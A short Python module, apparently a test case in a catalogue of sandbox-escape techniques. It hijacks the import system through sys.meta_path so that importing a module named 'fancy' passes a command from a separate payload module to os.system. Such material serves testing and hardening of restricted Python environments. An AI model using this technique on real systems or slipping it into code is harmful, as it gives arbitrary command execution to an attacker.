"""A spec's name is a command, and load_module() a function of C."""
CATEGORY = "callable"
REACH = "run"

import os
import sys
from importlib.machinery import ModuleSpec

from . import payload


class Loader:
    pass


class Finder:

    @staticmethod
    def find_spec(name, path=None, target=None):
        if name == "fancy":
            loader = Loader()
            loader.load_module = os.system
            return ModuleSpec(payload.COMMAND, loader)


def attack():
    sys.meta_path.insert(0, Finder)
